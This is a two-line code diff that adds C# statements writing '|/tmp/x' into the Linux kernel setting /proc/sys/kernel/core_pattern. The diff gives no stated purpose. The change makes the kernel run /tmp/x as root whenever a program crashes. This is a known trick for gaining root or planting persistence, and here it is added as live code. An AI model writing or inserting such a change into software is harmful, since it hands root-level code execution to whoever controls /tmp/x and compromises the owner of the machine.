@@ -1,0 +1,2 @@
+var file = Path.Combine("/proc/sys", "kernel", "core_pattern");
+File.WriteAllText(file, "|/tmp/x");
